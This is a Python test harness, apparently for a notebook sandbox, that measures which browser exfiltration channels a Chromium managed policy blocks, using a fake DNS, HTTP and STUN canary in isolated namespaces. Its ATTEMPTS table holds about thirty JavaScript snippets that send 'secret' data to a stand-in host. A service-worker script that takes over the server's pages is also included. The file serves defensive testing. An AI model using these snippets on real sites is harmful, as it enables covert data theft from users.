"""`python -m tests.leaks.browser_attempts [POLICY]`: what a notebook's page tries to say to others, and what of it arrives.

Run by `attempts` in a network and a mount namespace of its own, where every name leads to a canary: a DNS server, an HTTP server
and a STUN port that write down who asked. The page comes through a real doorway from a server that a cell has taken over. With
POLICY, a file, Chromium finds it as a managed policy; nothing of that is left on the machine.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

from aiohttp import web

from enclave.budget import Budget
from enclave.doorway import Doorway, _Server
from enclave.timeleft import TimeLeft
from enclave.wire import Place
from enclave.wording import Allowance
from tests.e2e.browser import Browser

ROOT = Path(__file__).parents[2]
BASE = "/user/tanaka/"
ZONE = "canary.test"
CANARY = "192.0.2.2"
"""At an interface of its own: with nothing but loopback, Chromium thinks that it is offline."""
SETTINGS = "/etc/chromium"
"""Where Debian's Chromium looks for policies."""

_ADD = "const e = document.createElement('{tag}'); Object.assign(e, {what}); document.body.append(e);"
_CLICK = "const a = document.createElement('a'); a.href = '{url}'; a.{more}; document.body.append(a); a.click();"
ATTEMPTS = {
    "img": "new Image().src = '{url}';",
    "css": _ADD.replace("{tag}", "style").replace("{what}", "{{ textContent: 'body {{ background: url({url}) }}' }}"),
    "font": "new FontFace('x', 'url({url})').load().catch(() => 0);",
    "script": _ADD.replace("{tag}", "script").replace("{what}", "{{ src: '{url}' }}"),
    "import": "import('{url}').catch(() => 0);",
    "fetch": "fetch('{url}', {{ mode: 'no-cors' }}).catch(() => 0);",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '{url}'); x.send();",
    "beacon": "navigator.sendBeacon('{url}', 'secret');",
    "websocket": "new WebSocket('{url}'.replace('http', 'ws'));",
    "eventsource": "new EventSource('{url}');",
    "webtransport": "new WebTransport('{url}'.replace('http:', 'https:'));",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('{url}', {{ mode: 'no-cors' }})`])));",
    "iframe": _ADD.replace("{tag}", "iframe").replace("{what}", "{{ src: '{url}' }}"),
    "object": _ADD.replace("{tag}", "object").replace("{what}", "{{ data: '{url}' }}"),
    "video": _ADD.replace("{tag}", "video").replace("{what}", "{{ src: '{url}' }}"),
    "prefetch": _ADD.replace("{tag}", "link").replace("{what}", "{{ rel: 'prefetch', href: '{url}' }}"),
    "preload": _ADD.replace("{tag}", "link").replace("{what}", "{{ rel: 'preload', as: 'image', href: '{url}' }}"),
    "stylesheet": _ADD.replace("{tag}", "link").replace("{what}", "{{ rel: 'stylesheet', href: '{url}' }}"),
    "manifest": _ADD.replace("{tag}", "link").replace("{what}", "{{ rel: 'manifest', href: '{url}' }}"),
    "preconnect": _ADD.replace("{tag}", "link").replace("{what}", "{{ rel: 'preconnect', href: '{url}' }}"),
    "dns-prefetch": _ADD.replace("{tag}", "link").replace("{what}", "{{ rel: 'dns-prefetch', href: '{url}' }}"),
    "speculation": _ADD.replace("{tag}", "script").replace(
        "{what}", "{{ type: 'speculationrules', textContent: '{{\"prefetch\": [{{\"urls\": [\"{url}\"]}}]}}' }}"
    ),
    "form": "const f = document.createElement('form'); f.action = '{url}'; document.body.append(f); f.submit();",
    "ping": _CLICK.replace("a.href = '{url}'", "a.href = '#x'").replace("{more}", "ping = '{url}'"),
    "webrtc": "const p = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{host}:3478' }}] }});"
    " p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));",
    "passkey": "navigator.credentials.get({{ publicKey: {{ challenge: new Uint8Array(16), rpId: '{host}' }} }}).catch(() => 0);",
    "window.open": "window.open('{url}');",
    "click in a new tab": _CLICK.replace("{more}", "target = '_blank'"),
    "click": _CLICK.replace("{more}", "id = 'x'"),
    "location": "location.href = '{url}';",
    "meta refresh": _ADD.replace("{tag}", "meta").replace("{what}", "{{ httpEquiv: 'refresh', content: '0; url={url}' }}"),
    # The last one: where it is let in, it answers for the server from then on.
    "service worker": f"navigator.serviceWorker.register('{BASE}doc?clone={{host}}')"
    ".then(() => navigator.serviceWorker.ready).then(() => location.reload());",
}
"""Name → script; `{url}` and `{host}` lead to a canary that knows the name."""


WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event => event.waitUntil(clients.claim()));
const page = `<!doctype html><img src='http://${new URL(location).searchParams.get('clone')}/secret'>`;
self.addEventListener('fetch', event => event.request.mode === 'navigate'
  && event.respondWith(new Response(page, { headers: { 'Content-Type': 'text/html' } })));
"""
"""A service worker that answers for the server, without its policy."""


@dataclass(frozen=True)
class Found:
    """What came of it."""

    arrived: dict[str, list[str]]
    """Attempt → how it was heard: dns, http, udp."""
    downloaded: list[str]
    """Files that a page's script left on the person's machine."""
    chosen: str
    """What became of a page's wish to write into a file that the person chooses."""
    opened: str
    """What the own page shows, at the end."""
    remembered: list[str]
    """Files of the browser's profile that still name the own page when the browser is closed."""


class Canary:
    """Writes down which attempts arrived, and how."""

    def __init__(self) -> None:
        self.heard: dict[str, set[str]] = {}

    def hear(self, how: str, text: str) -> None:
        if found := re.search(r"a(\d+)\." + re.escape(ZONE), text):
            self.heard.setdefault(list(ATTEMPTS)[int(found[1])], set()).add(how)

    async def http(self, request: web.BaseRequest) -> web.Response:
        self.hear("http", request.headers.get("Host", ""))
        return web.Response(text="canary", content_type="text/html")


class Names(asyncio.DatagramProtocol):
    """A DNS server that sends everybody to the canary."""

    def __init__(self, canary: Canary) -> None:
        self._canary = canary

    def connection_made(self, transport: Any) -> None:
        self._transport = transport

    def datagram_received(self, data: bytes, sender: tuple[str, int]) -> None:
        labels, place = [], 12
        while data[place]:
            labels.append(data[place + 1 : place + 1 + data[place]].decode("ascii", "replace"))
            place += 1 + data[place]
        question = data[12 : place + 5]
        self._canary.hear("dns", ".".join(labels))
        address = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x01\x00\x04" + bytes(map(int, CANARY.split(".")))
        is_a = question[-4:-2] == b"\x00\x01"
        answers = b"\x00\x01" if is_a else b"\x00\x00"
        answer = data[:2] + b"\x81\x80\x00\x01" + answers + b"\x00\x00\x00\x00" + question + (address if is_a else b"")
        self._transport.sendto(answer, sender)


class Stun(asyncio.DatagramProtocol):
    """Whoever sends something here is one attempt: the only one that speaks UDP."""

    def __init__(self, canary: Canary) -> None:
        self._canary = canary

    def datagram_received(self, data: bytes, sender: tuple[str, int]) -> None:
        self._canary.heard.setdefault("webrtc", set()).add("udp")


async def taken_over(request: web.BaseRequest) -> web.Response:
    """The server, as a cell plays it."""
    if request.path == f"{BASE}doc":
        return web.Response(text=WORKER, content_type="text/javascript")
    return web.Response(text="<!doctype html><title>notebook</title><body>notebook", content_type="text/html")


class World:
    """Doorway, canaries and the front at `url`, in a thread."""

    def __init__(self, folder: Path) -> None:
        self.canary = Canary()
        self._folder = folder
        self._loop = asyncio.new_event_loop()
        threading.Thread(target=self._loop.run_forever, daemon=True).start()
        asyncio.run_coroutine_threadsafe(self._open(), self._loop).result(20)

    async def _open(self) -> None:
        await self._loop.create_datagram_endpoint(lambda: Names(self.canary), ("127.0.0.1", 53))
        await self._loop.create_datagram_endpoint(lambda: Stun(self.canary), (CANARY, 3478))
        canary = web.ServerRunner(web.Server(self.canary.http))
        await canary.setup()
        await web.TCPSite(canary, CANARY, 80).start()
        server = web.ServerRunner(web.Server(taken_over))
        await server.setup()
        await web.UnixSite(server, str(self._folder / "server.sock")).start()
        doorway = Doorway(self._folder / "server.sock", Place(BASE), Allowance(), Budget(2**30), TimeLeft(time.time() + 3600))
        doorway.open()
        front = web.ServerRunner(_Server(doorway._handle))
        await front.setup()
        await web.TCPSite(front, "127.0.0.1", 8000).start()
        self.url = "http://localhost:8000"  # a host with a name: an address has no passkeys


def main(policy: str | None) -> Found:
    """Tries everything."""
    for words in ("link set lo up", "link add net type veth peer name far", f"addr add {CANARY}/24 dev net", "link set far up",
                  "link set net up", "route add default via 192.0.2.1"):  # fmt: skip
        run("ip", *words.split())
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        (folder / "resolv.conf").write_text("nameserver 127.0.0.1\n")
        run("mount", "--bind", f"{name}/resolv.conf", "/etc/resolv.conf")
        if policy:
            install_policy(folder, Path(policy).read_text())
        world = World(folder)
        (folder / "downloads").mkdir()
        browser = Browser(world.url, "en", folder / "pictures")
        try:
            for number, script in enumerate(ATTEMPTS.values()):
                attempt(browser, script, f"a{number}.{ZONE}")
            downloaded = download(browser, folder / "downloads")
            chosen = choose(browser)
            browser.open(f"{BASE}lab")
            opened = browser.text()
            browser.driver.quit()
            kept = [each for each in Path(browser.profile).rglob("*") if each.is_file()]
            remembered = [each.name for each in kept if b"tanaka" in each.read_bytes()]
        finally:
            browser.close()
        return Found({name: sorted(how) for name, how in world.canary.heard.items()}, downloaded, chosen, opened, remembered)


def install_policy(folder: Path, text: str) -> None:
    """Chromium's folder of settings, as a mount that this process and its children alone see."""
    policies = folder / "chromium" / "policies" / "managed"
    policies.mkdir(parents=True)
    (policies / "renkei.json").write_text(text)
    run("mount", "--bind", str(folder / "chromium"), SETTINGS)


def run(*argv: str) -> None:
    subprocess.run(argv, check=True)


def attempt(browser: Browser, script: str, host: str) -> None:
    """One attempt, from a fresh page; the other windows that it opened are closed."""
    browser.open(f"{BASE}lab")
    own = browser.driver.current_window_handle
    with contextlib.suppress(Exception):
        browser.driver.execute_script(script.format(url=f"http://{host}/secret", host=host))
    time.sleep(0.7)
    for window in browser.driver.window_handles:
        if window != own:
            browser.driver.switch_to.window(window)
            browser.driver.close()
    browser.driver.switch_to.window(own)


def download(browser: Browser, folder: Path) -> list[str]:
    """Files that a page's script could leave on the person's machine; it also uses the browser's own storage."""
    browser.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(folder)})
    browser.open(f"{BASE}lab")
    browser.driver.execute_script(
        "localStorage.setItem('kept', 'tanaka');"
        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['secret'])); a.download = 'ct.nii';"
        "document.body.append(a); a.click();"
    )
    time.sleep(1.5)
    return [each.name for each in folder.iterdir()]


def choose(browser: Browser) -> str:
    """The name of the error with which the browser's file chooser answers a page that wants to write, after a click."""
    browser.open(f"{BASE}lab")
    browser.driver.execute_script(
        "document.body.onclick = () => showSaveFilePicker().then(() => window.said = 'written', error => window.said = error.name);"
    )
    browser.driver.find_element("css selector", "body").click()
    said = "return window.said || ''"
    return browser.wait(10, "the file chooser's answer", lambda: str(browser.driver.execute_script(said)) or None)


def attempts(policy: str = "") -> Found:
    """What `main` found, in namespaces of its own."""
    command = ["unshare", "--net", "--mount", "--propagation", "private", sys.executable, "-m", "tests.leaks.browser_attempts"]
    with tempfile.TemporaryDirectory() as folder:
        if policy:
            Path(folder, "policy.json").write_text(policy)
            command.append(f"{folder}/policy.json")
        done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False, timeout=240)
        assert done.returncode == 0, done.stderr[-4000:]
        return Found(**json.loads(done.stdout))


if __name__ == "__main__":
    json.dump(asdict(main(sys.argv[1] if len(sys.argv) > 1 else None)), sys.stdout)
